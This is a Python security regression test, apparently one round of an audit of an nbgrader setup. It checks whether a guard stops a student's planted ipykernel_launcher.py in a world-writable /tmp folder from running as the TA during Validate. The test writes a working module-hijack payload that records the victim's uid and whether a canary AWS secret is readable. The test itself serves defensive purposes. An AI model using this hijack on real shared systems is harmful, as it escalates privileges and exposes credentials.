"""a09: Validate of the TA's OWN notebook (root's, in no hand-in folder: the guard lets it through, rightly) in a folder
other users may write, as /tmp is (here a sticky 1777 folder standing for it). nbgrader starts the kernel in the
notebook's folder as `python -m ipykernel_launcher`, whose sys.path[0] is that folder: a student's
ipykernel_launcher.py there (uid 65534's) runs as the TA. Round 36 closed this for `make lab` (PYTHONSAFEPATH=1);
does the venv-wide guard close it for Validate?"""
import os, subprocess, sys, json
sys.path.insert(0, (__import__("os").environ.get("ATTACK_ROOT_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", ".."))))
import nbformat
d = "/tmp/attack44-root-a09"
subprocess.run(["rm", "-rf", d]); os.makedirs(d); os.chmod(d, 0o1777)
# the student's file, made as the student
STUDENT = f"""
import os
os.setgid(65534); os.setuid(65534)
open({d + '/ipykernel_launcher.py'!r}, 'w').write('''
import os, json, runpy, sys
open({d + '/PWNED.json'!r}, 'w').write(json.dumps({{'uid': os.getuid(), 'canary': 'AKIASECRET' in str(os.environ)}}))
sys.path.pop(0)
runpy.run_module('ipykernel_launcher', run_name='__main__')
''')
"""
subprocess.run([sys.executable, "-c", STUDENT], check=True)
nb = nbformat.read("CLONE/release/ps1_memory/ps1_memory.ipynb", 4)
nb.cells = nb.cells[:1] + [nbformat.v4.new_code_cell("x = 1")]
nbformat.write(nb, f"{d}/my_notes.ipynb")  # the TA's own notebook (root's)
env = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
r = subprocess.run(["CLONE/.venv/bin/nbgrader", "validate", f"{d}/my_notes.ipynb"], cwd=os.path.expanduser("~"),
                   env=env, capture_output=True, text=True, timeout=180)
print("rc", r.returncode, r.stdout[-600:], r.stderr[-600:])
print("owner of ipykernel_launcher.py:", os.stat(f"{d}/ipykernel_launcher.py").st_uid)
print("PWNED:", open(f"{d}/PWNED.json").read() if os.path.exists(f"{d}/PWNED.json") else "nothing ran")
